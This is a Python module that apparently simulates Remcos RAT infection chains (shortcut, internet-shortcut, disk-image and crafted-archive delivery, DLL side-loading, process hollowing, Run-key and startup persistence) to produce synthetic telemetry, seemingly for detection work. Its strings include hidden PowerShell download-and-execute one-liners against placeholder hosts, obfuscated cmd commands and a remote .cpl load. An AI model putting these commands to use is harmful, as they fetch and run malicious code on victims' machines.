"""Stories that begin with a shortcut or an internet shortcut."""

from __future__ import annotations

from typing import TYPE_CHECKING

from lineage.simulate.benign.boot import SYSTEM32
from lineage.simulate.stories import delivery, remcos
from lineage.simulate.stories.scene import DOTNET, WOW64

if TYPE_CHECKING:
    from lineage.simulate.facts import Process
    from lineage.simulate.machine import Activity, Behaviour
    from lineage.simulate.stories.scene import Scene


def shortcut_pif(s: Scene) -> Activity:
    """A shortcut's PowerShell downloads text, decodes it into ProgramData and starts a .pif."""
    shell, _ = yield from delivery.attachment(s, f"{s.plan.document}.docx.lnk")
    path = f"C:\\ProgramData\\{s.word(2).upper()}.PIF"
    loader = s.powershell(
        shell,
        "-WindowStyle hidden -Command (new-object System.Net.WebClient).DownloadFile("
        "'https://x/y.gif','C:\\ProgramData\\h.GIF');$f=Get-Content h.GIF;"
        "[IO.File]::WriteAllBytes('h.PIF',[Convert]::FromBase64String($f));start h.PIF",
        "[System.Convert]::FromBase64String",
    )
    s.fetch(loader)
    s.save(loader, f"C:\\ProgramData\\{s.word(2).upper()}.GIF")
    yield 2
    s.drop(loader, path, "payload file")
    rat = s.run(loader, path, f'"{path}"', "payload")
    remcos.settle(s, rat, values="exepath licence time")

    def again(process: Process) -> Activity:
        yield from remcos.work(s, process)

    s.run_value(rat, path, f'"{path}"', again)
    yield from remcos.work(s, rat, pictures="{roaming}\\Screenshots")


def shortcut_side_loading(s: Scene) -> Activity:
    """A shortcut's PowerShell unpacks an honest program beside a library that hollows Explorer."""
    m = s.m
    shell, _ = yield from delivery.zip_window(
        s, f"{s.plan.document}.zip", f"{s.plan.document}.docx.lnk"
    )
    loader = s.powershell(
        shell,
        "-w hidden if (-not(Test-Path 'x' -PathType Leaf)){&(gcm i*x) (&(gcm *stM*) -Uri https://x)}",
        "Get-Command Invoke-RestMethod Expand-Archive Start-Process",
    )
    s.fetch(loader)
    folder = f"{s.roaming}\\{s.word()}"
    yield 4
    s.save(loader, f"{s.temp}\\{s.word()}.zip")
    program = s.save(loader, f"{folder}\\TivoDiag.exe", "honest program")
    library = s.drop(loader, f"{folder}\\mindclient.dll", "side-loaded library")
    host = s.run(loader, program, f'"{program}"', "side-loading program")
    m.load(host, library, s.own("side-loaded library"))
    yield 3
    explorer = "C:\\Windows\\SysWOW64\\explorer.exe"
    rat = s.run(host, explorer, explorer, "injected")
    remcos.settle(s, rat)

    def again(process: Process) -> Activity:
        m.load(process, library, s.own("side-loaded library"))
        yield 3
        worker = s.run(process, explorer, explorer, "injected")
        yield from remcos.work(s, worker)

    s.run_value(host, program, f'"{program}"', again)
    yield from remcos.work(s, rat)


def shortcut_script_guloader(s: Scene) -> Activity:
    """A shortcut's PowerShell fetches a script and a decoy; PowerShell again; ieinstal."""
    shell, _ = yield from delivery.zip_window(
        s, f"{s.plan.document}.zip", f"{s.plan.document}.pdf.lnk", windows_11=True
    )
    script = f"C:\\Windows\\Tasks\\{s.word()}.vbs"
    loader = s.powershell(
        shell,
        f"-WindowStyle Hidden $t='http://x/a.vbs';iwr $t -OutFile {script};start {script}",
        "Invoke-WebRequest; Start-Process",
    )
    s.fetch(loader)
    yield 3
    s.save(loader, script, "script")
    s.save(loader, f"{s.m.home}\\Downloads\\{s.plan.document}.pdf", "decoy")
    host = delivery.wscript(s, loader, script)
    yield 1
    first = s.powershell(host, "\"$S='Fun';Function U9 { param($a) }\"", "Substring")
    s.fetch(first)
    yield 3
    second = s.powershell(first, "\"$S='Fun'\"", "GetDelegateForFunctionPointer", wow64=True)
    yield 4
    image = "C:\\Program Files (x86)\\Internet Explorer\\ieinstal.exe"
    rat = s.run(second, image, f'"{image}"', "injected")
    remcos.settle(s, rat)
    s.m.set(
        rat,
        f"{s.m.hive}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{s.plan.autostart}",
        '%Peb% -windowstyle minimized $x=(Get-ItemProperty "HKCU:\\A\\").B;%Peb% ($x)',
        s.own("autostart"),
    )
    yield from remcos.work(s, rat, log="{roaming}\\" + s.word(3) + "\\logs.dat")


def internet_shortcut_share(s: Scene) -> Activity:
    """An internet shortcut in a zip archive starts a program on an SMB share."""
    shell, _ = yield from delivery.zip_window(s, f"{s.plan.document}.zip", f"{s.plan.document}.url")
    path = f"\\\\185.12.34.56\\share\\{s.plan.document}.exe"
    s.m.place(path, s.plan.payload)
    dropper = s.run(shell, path, f'"{path}" ', "dropper", lifetime=60)
    yield 2
    target = s.drop(dropper, f"{s.roaming}\\{s.plan.folder}\\{s.plan.program}", "payload file")
    rat = s.run(dropper, target, f'"{target}"', "payload")
    remcos.settle(s, rat)

    def again(process: Process) -> Activity:
        yield from remcos.work(s, process, log="{roaming}\\" + s.plan.log_folder + "\\logs.dat")

    s.run_value(rat, target, f'"{target}"', again)
    yield from again(rat)


def shortcut_steganography(s: Scene) -> Activity:
    """A mounted image's shortcut: PowerShell, a loader with a picture, a hollowed system tool."""
    shell, _ = yield from delivery.mounted(s, f"{s.plan.document}.img", f"{s.plan.document}.lnk")
    prompt = s.run(
        shell,
        SYSTEM32 + "cmd.exe",
        f'"{SYSTEM32}cmd.exe" /c p^ow^ers^hell -w h -c "i^wr https://x/s -o s.exe;.\\s"',
        "shell",
        lifetime=8,
    )
    loader = s.powershell(prompt, '-w h -c "iwr https://x/s -o $env:temp\\s.exe"', "iwr")
    s.fetch(loader)
    yield 3
    path = s.drop(loader, f"{s.temp}\\{s.word()}_Gzv3.exe", "loader file")
    first = s.run(loader, path, f'"{path}"', "loader", lifetime=60)
    s.save(first, f"{s.temp}\\{s.word()}.png", "stage")
    s.m.load(first, WOW64 + "PLA.dll")
    yield 4
    target = s.run(first, WOW64 + "cmd.exe", WOW64 + "cmd.exe", "injected", lifetime=40)
    yield 3
    rat = s.run(target, WOW64 + "explorer.exe", WOW64 + "explorer.exe", "injected")
    remcos.settle(s, rat)
    copy = s.drop(first, f"{s.roaming}\\{s.word()}\\{s.word()}.exe", "loader file")

    def again(process: Process) -> Activity:
        yield 2
        second = s.run(process, WOW64 + "cmd.exe", WOW64 + "cmd.exe", "injected", lifetime=40)
        yield 3
        worker = s.run(second, WOW64 + "explorer.exe", WOW64 + "explorer.exe", "injected")
        yield from remcos.work(s, worker)

    link = f"{s.word()}.lnk"
    s.startup_file(first, link, copy, f'"{copy}" ', again)
    yield from remcos.work(s, rat)


def control_panel_link(s: Scene) -> Activity:
    """An internet shortcut opens a control panel library, which has PowerShell go on."""
    m = s.m
    shell, _ = yield from delivery.download(s, f"{s.plan.document}.url")
    library = f"\\\\{s.word()}.duckdns.org@80\\DavWWWRoot\\{s.word()}.cpl"
    control = s.between(shell, SYSTEM32 + "control.exe", f'"{SYSTEM32}control.exe" "{library}",')
    runner = s.run(
        control,
        SYSTEM32 + "rundll32.exe",
        f'"{SYSTEM32}rundll32.exe" Shell32.dll,Control_RunDLL "{library}",',
        "script host",
    )
    m.load(runner, library, s.own("library"))
    yield 1
    loader = s.powershell(
        runner, '-ExecutionPolicy Bypass -c "iex(iwr https://x/y)"', "Invoke-WebRequest"
    )
    s.fetch(loader, "raw.githubusercontent.com")
    yield 3
    path = s.drop(loader, f"{s.temp}\\{s.plan.program}", "payload file")
    rat = s.run(loader, path, f'"{path}"', "payload")
    remcos.settle(s, rat)
    copy = s.drop(rat, f"C:\\ProgramData\\{s.plan.folder}\\{s.plan.program}", "payload file")

    def again(process: Process) -> Activity:
        yield from remcos.work(s, process)

    s.task(rat, copy, copy, again)
    yield from remcos.work(s, rat)


def archive_exploit_batch(s: Scene) -> Activity:
    """A crafted archive starts a batch file instead of a picture; .NET loader; AddInProcess."""
    window, script = yield from delivery.archiver(
        s, f"{s.plan.document}.rar", f"{s.plan.document}.jpg .cmd", program=delivery.WINRAR
    )
    prompt = s.run(window, SYSTEM32 + "cmd.exe", f'{SYSTEM32}cmd.exe /c ""{script}" "', "shell")
    yield 1
    path = s.drop(prompt, f"{s.temp}\\{s.word()}.exe", "loader file")
    loader = s.run(prompt, path, path, "loader", lifetime=40)
    s.m.exit(prompt)
    s.fetch(loader)
    yield 4
    image = DOTNET + "AddInProcess32.exe"
    rat = s.run(loader, image, f'"{image}"', "injected")
    remcos.settle(s, rat)
    copy = s.drop(loader, f"{s.roaming}\\{s.word()}.exe", "loader file")

    def again(process: Process) -> Activity:
        yield 3
        worker = s.run(process, image, f'"{image}"', "injected")
        yield from remcos.work(s, worker)

    s.startup_file(
        loader,
        f"{s.word()}.vbs",
        SYSTEM32 + "wscript.exe",
        f'"{SYSTEM32}WScript.exe" "{{path}}" ',
        lambda host: _start(s, host, copy, again),
    )
    yield from remcos.work(s, rat)


def _start(s: Scene, host: Process, path: str, again: Behaviour) -> Activity:
    yield 1
    yield from again(s.run(host, path, f'"{path}" ', "loader"))
